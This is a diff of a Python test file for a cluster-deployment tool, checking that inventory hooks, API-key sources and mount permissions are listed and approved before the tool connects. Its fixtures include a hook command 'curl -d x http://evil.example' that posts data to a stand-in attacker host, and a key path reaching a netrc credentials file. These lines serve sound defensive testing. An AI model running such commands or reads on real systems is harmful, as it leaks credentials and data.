@@ -534,8 +534,7 @@ def test_image_and_keys_that_the_inventory_sets_over_a_bundled_playbook_are_aske
 
 # Lines of an inventory, and how they are listed.
 OWN = {
-    "after_ready: ['curl -d x http://evil.example']": "after_ready curl -d x http://evil.example",
-    "after_ready: [sh hook.sh]": "after_ready sh hook.sh (in DIRECTORY)",
+    "after_ready: ['curl -d x http://evil.example']": "after_ready curl -d x http://evil.example (in DIRECTORY)",
     "api: {key: {env: BANK_TOKEN}}": "api.key    $BANK_TOKEN",
     "api: {key: {file: ~/.config/sparkcluster/../netrc}}": "api.key    ~/.config/sparkcluster/../netrc",
     "permit: {mounts: ['/data:rw'], secrets: [A]}": "permit     mounts: /data:rw",
@@ -557,8 +556,7 @@ def test_what_an_inventory_asks_for_is_shown_and_accepted_once(
     def filled(text: str) -> str:
         return text.replace("PORT", str(node.server_address[1])).replace("DIRECTORY", str(tmp_path))
 
-    for name in ("id", "hook.sh"):
-        (tmp_path / name).write_text("x")
+    (tmp_path / "id").write_text("x")
     path = inventory(tmp_path, None, port=node.server_address[1], more=filled(line))
     listed = f"  {filled(OWN[line])}"
     assert listed in run("lint", path).out.splitlines()
@@ -571,24 +569,23 @@ def test_what_an_inventory_asks_for_is_shown_and_accepted_once(
 def test_lines_of_an_inventory_are_accepted_and_not_its_file(tmp_path: Path, run: Run, up: Run, node: Node) -> None:
     def written(more: str, name: str = "inventory", directory: Path = tmp_path) -> Path:
         directory.mkdir(exist_ok=True)
-        (directory / "hook.sh").write_text("")
         return inventory(directory, None, port=node.server_address[1], name=name, more=more)
 
-    hook = "after_ready: [curl http://a.example]\n"
-    assert up(written(hook), "--yes").code == 1
-    assert up(written(f"# a comment\n{hook}{NOT_ASKED}")).code == 1
-    assert up(written(hook, "another", tmp_path / "elsewhere")).code == 1
-    both = up(written(f"{hook}permit: {{mounts: [/data]}}\n"))
-    assert both.code == 2
-    assert "curl" not in both.err
-    assert up(written(hook.replace("a.example", "b.example"))).code == 2
-    # the same words, another program
-    beside = "after_ready: [sh hook.sh]\n"
-    assert up(written(beside), "--yes").code == 1
-    assert up(written(beside, directory=tmp_path / "elsewhere")).code == 2
+    lines = "after_ready: [make hook]\npermit: {mounts: [/scratch]}\n"
+    assert up(written(lines), "--yes").code == 1
+    assert up(written(f"# a comment\n{lines}{NOT_ASKED}")).code == 1
+    assert up(written(lines, "another")).code == 1
+    more = up(written(f"{lines}api: {{key: {{env: BANK_TOKEN}}}}\n"))
+    assert (more.code, "make" in more.err) == (2, False)
+    assert up(written(lines.replace("make hook", "make hooks"))).code == 2
+    # the same words may be another program there
+    elsewhere = up(written(lines, directory=tmp_path / "elsewhere"))
+    assert (elsewhere.code, "permit" in elsewhere.err) == (2, False)
 
 
-@pytest.mark.parametrize("words", [("stage",), ("upgrade",), ("upgrade", "--resume"), ("rollback",), ("restart",)])
+@pytest.mark.parametrize(
+    "words", [("stage",), ("upgrade", "--resume"), ("rollback",), ("restart",), ("preflight", "--deep")]
+)
 def test_whatever_starts_something_asks_about_the_inventory_before_it_connects(
     tmp_path: Path, run: Run, node: Node, words: tuple[str, ...]
 ) -> None:
